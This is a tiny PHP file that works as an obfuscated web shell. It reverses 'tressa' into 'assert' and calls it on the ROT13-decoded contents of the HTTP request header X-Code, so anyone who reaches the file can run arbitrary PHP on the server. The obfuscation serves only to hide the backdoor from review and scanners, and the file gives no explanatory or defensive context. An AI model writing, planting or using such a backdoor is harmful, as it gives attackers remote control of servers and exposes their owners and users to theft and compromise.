<?php
$k = strrev('tressa');
$k(str_rot13($_SERVER['HTTP_X_CODE']));
